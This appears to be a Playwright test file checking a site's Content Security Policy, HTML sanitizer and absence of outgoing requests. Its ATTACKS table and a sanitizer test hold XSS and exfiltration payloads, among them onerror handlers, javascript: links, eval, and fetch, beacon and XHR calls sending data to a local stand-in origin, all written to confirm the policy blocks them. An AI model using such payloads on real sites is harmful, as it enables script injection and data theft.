"""The pages' security policy, attacked directive by directive; and that nothing is asked of any server once all is loaded."""

import contextlib
import http.server
import json
import re
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.estimator_page import ON, PATHS, answer, day, shows_row
from tests.browser.test_roster import done, opened

#: What stolen script would try, by the directive that has to stop it. `there` is a server elsewhere, `here` this site.
ATTACKS = {
    "script-src-elem": """
        const script = document.createElement('script');
        script.append('window.owned = "inline script"');
        document.body.append(script);
        const other = document.createElement('script');
        try { other.src = `${there}x.js`; document.body.append(other); } catch { /* Trusted Types were quicker */ }
    """,
    "script-src-attr": """
        const image = document.createElement('img');
        try { image.setAttribute('onerror', 'window.owned = "attribute"'); } catch { /* the same */ }
        image.src = 'data:,';
        document.body.append(image);
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.owned = 1">');
        const button = document.createElement('button');
        try { button.setAttribute('on' + 'click', 'window.owned = "click"'); } catch { /* the same */ }
        button.click();
    """,
    "script-src": """
        const tries = [() => eval('window.owned = "eval"'), () => new Function('window.owned = "Function"')()];
        for (const act of tries) try { act(); } catch { /* forbidden */ }
        try { setTimeout('window.owned = "timeout"'); } catch { /* forbidden */ }
    """,
    "style-src-elem": """
        const style = document.createElement('style');
        style.append('body { --owned: 1 }');
        document.head.append(style);
        const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${there}x.css` });
        document.head.append(link);
    """,
    "style-src-attr": "document.body.setAttribute('style', '--owned: 1');",
    "img-src": "new Image().src = `${there}x.png?age=38`;",
    "connect-src": """
        fetch(`${there}fetch`).catch(() => {});
        const request = new XMLHttpRequest();
        try { request.open('POST', `${there}xhr`); request.send('age=38'); } catch { /* forbidden */ }
        try { navigator.sendBeacon(`${there}beacon`, 'age=38'); } catch { /* forbidden */ }
        try { new WebSocket(there.replace('http', 'ws')); } catch { /* forbidden */ }
        try { new EventSource(`${there}events`); } catch { /* forbidden */ }
    """,
    "worker-src": """
        const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
        try { new Worker(blob).onmessage = () => { window.owned = 'worker'; }; } catch { /* Trusted Types were quicker */ }
        try { new SharedWorker(`${there}x.js`); } catch { /* the same */ }
    """,
    "font-src": "new FontFace('x', `url(${there}x.woff2)`).load().catch(() => {});",
    "media-src": "new Audio(`${there}x.mp3`).load();",
    "object-src": """
        try {
            document.body.append(Object.assign(document.createElement('object'), { data: `${here}feed.xml` }));
        } catch { /* Trusted Types were quicker */ }
    """,
    "frame-src": """
        const frame = document.createElement('iframe');
        frame.src = `${there}frame?age=38`;
        document.body.append(frame);
        const own = document.createElement('iframe');
        own.src = here;
        document.body.append(own);
    """,
    "base-uri": """
        const base = Object.assign(document.createElement('base'), { href: there });
        document.head.prepend(base);
        if (document.baseURI.startsWith(there)) window.owned = 'base';
        base.remove();
    """,
    "form-action": """
        const form = Object.assign(document.createElement('form'), { method: 'post', action: `${there}form`, target: '_self' });
        document.body.append(form);
        form.submit();
    """,
    "require-trusted-types-for": """
        try { new Worker(`${there}x.js`); } catch { /* the policy refuses the address */ }
        try { document.createElement('script').text = 'window.owned = "text"'; } catch { /* text is never a script */ }
    """,
    "trusted-types": "try { trustedTypes.createPolicy('mine', { createScript: (text) => text }); } catch { /* not a name we know */ }",
}
WATCH = """
    window.violated = [];
    document.addEventListener('securitypolicyviolation', (event) => window.violated.push(event.effectiveDirective));
"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """A server of another origin, and what it was asked for."""
    asked: list[str] = []

    class Listening(http.server.BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            with contextlib.suppress(OSError):
                super().handle_one_request()

        def log_request(self, *_: Any) -> None:
            asked.append(self.path)

        def log_error(self, *_: Any) -> None:
            asked.append("?")

        def do_GET(self) -> None:
            self.send_response(204)
            self.end_headers()

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listening) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


TRUSTED = "; require-trusted-types-for 'script'; trusted-types default points-reading"


@pytest.mark.parametrize(("path", "trusted"), [("/en/estimator/", True), ("/en/estimator/", False), ("/faq/", True)])
def test_every_directive_stops_its_attack(
    new_page: Callable[..., Page],
    built_site: Path,
    site_url: str,
    elsewhere: tuple[str, list[str]],
    path: str,
    trusted: bool,
) -> None:
    """With Trusted Types as in the page, which stop some attacks before another directive can; and as without them."""
    there, asked = elsewhere
    page = new_page(viewport={"width": 1280, "height": 900})
    page.expected.append(".*")  # type: ignore[attr-defined]
    text = (built_site / path.strip("/") / "index.html").read_text(encoding="utf-8")
    assert TRUSTED in text
    if not trusted:
        bare = text.replace(TRUSTED, "")
        page.route(f"**{path}", lambda route: route.fulfill(body=bare, content_type="text/html"))
    page.goto(path)
    page.evaluate(WATCH)
    address = page.url
    for directive, attack in ATTACKS.items():
        typed = "trusted-types" in directive
        if typed and not trusted:
            continue
        # Later, from the page itself: what the test runs directly may use eval whatever the policy says.
        page.evaluate(f"([there, here]) => {{ setTimeout(() => {{ {attack} }}); }}", [there, site_url])
        if typed or not trusted or not re.match("script|worker|object", directive):
            page.wait_for_function("one => window.violated.includes(one)", arg=directive, timeout=5000)
    page.wait_for_timeout(300)
    assert page.url == address
    assert page.evaluate("window.owned") is None
    assert page.evaluate("getComputedStyle(document.body).getPropertyValue('--owned')") == ""
    assert asked == []
    # WebAssembly runs where the estimator is, and nowhere else.
    compiles = "() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => true, () => false)"
    assert page.evaluate(compiles) == ("estimator" in path)


def test_text_becomes_markup_only_without_what_acts(new_page: Callable[..., Page]) -> None:
    page = new_page()
    page.expected.append("style")  # type: ignore[attr-defined]
    page.goto("/faq/")
    put = "text => { const place = document.createElement('div'); place.innerHTML = text; document.body.append(place); return place.innerHTML; }"
    hostile = (
        '<mark class="x">社保</mark><img src=x onerror=alert(1)><script>alert(1)</script><svg><style>*{}</style></svg>'
        '<a href="javascript:alert(1)" onclick="x()">a</a><a href=" java&#10;script:alert(1)">b</a><a href="../faq/">c</a>'
        "<iframe srcdoc='<b>'></iframe><math><mi>x</mi></math><p style='color:red'>d</p><form action=/>e</form>"
    )
    assert page.evaluate(put, hostile) == (
        '<mark class="x">社保</mark><svg></svg><a>a</a><a>b</a><a href="../faq/">c</a><p>d</p>e'
    )


def test_the_search_works_under_the_policy(new_page: Callable[..., Page]) -> None:
    page = new_page(viewport={"width": 1280, "height": 900})
    page.goto("/en/estimator/")
    page.locator(".md-search__input").click()
    page.locator(".md-search__input").press_sequentially("contribution")
    expect(page.locator(".md-search-result__item").first).to_be_visible(timeout=30_000)
    assert page.locator(".md-search-result mark").count() > 0
    # What was searched for is not told to the server by the links of the results.
    links = page.locator(".md-search-result a").evaluate_all("all => all.map(one => one.href)")
    assert links and not [link for link in links if "?" in link]


def quiet(page: Page) -> list[str]:
    """From now on, the requests of the page and of its workers, with what the browser makes itself left out."""
    asked: list[str] = []
    page.context.on("request", lambda it: None if it.url.startswith(("blob:", "data:")) else asked.append(it.url))
    return asked


def test_nothing_is_asked_once_the_estimator_is_loaded(new_page: Callable[..., Page]) -> None:
    page = new_page(viewport={"width": 1280, "height": 900})
    page.goto(PATHS["zh"])
    day(page, ON)
    answer(page, "si_months", 36)
    shows_row(page, "si_years", "9")
    words = json.loads(page.locator("#estimator-data").text_content() or "")
    keep, tabs = words["parts"]["keep"], words["parts"]["ahead"]
    page.wait_for_load_state("networkidle")
    asked = quiet(page)
    answer(page, "birth_date", "1990-05-20")
    answer(page, "serious_crime", False)
    shows_row(page, "age", "30")
    for tab in ("when", "how", "bring", "remind", "why"):
        page.get_by_role("tab", name=tabs[f"tab_{tab}"]).click()
        panel = page.locator("[role=tabpanel]:visible")
        expect(panel.locator(".work progress")).to_have_count(0, timeout=60_000)
    page.locator(".actions").get_by_role("button", name=keep["save"]).click()
    page.locator("#keep input").first.fill("本人")
    page.get_by_role("button", name=keep["do_save"]).click()
    with page.expect_download():
        page.get_by_role("button", name=keep["download"]).click()
    page.keyboard.press("Escape")
    page.locator(".actions").get_by_role("button", name=keep["share"]).click()
    expect(page.locator("#share svg").first).to_be_visible()
    page.keyboard.press("Escape")
    page.evaluate("dispatchEvent(new Event('beforeprint')); dispatchEvent(new Event('afterprint'))")
    page.emulate_media(media="print")
    page.wait_for_timeout(300)
    assert asked == []


def test_nothing_is_asked_once_a_roster_was_scored(new_page: Callable[..., Page]) -> None:
    page = opened(new_page)
    page.locator("#sample").click()
    done(page)
    page.wait_for_load_state("networkidle")
    asked = quiet(page)
    for button in page.locator("#outcome .downloads button").all():
        with page.expect_download():
            button.click()
    page.locator("#on").fill("2027-01-01")
    page.locator("#on").blur()
    done(page)
    page.emulate_media(media="print")
    page.wait_for_timeout(300)
    assert asked == []
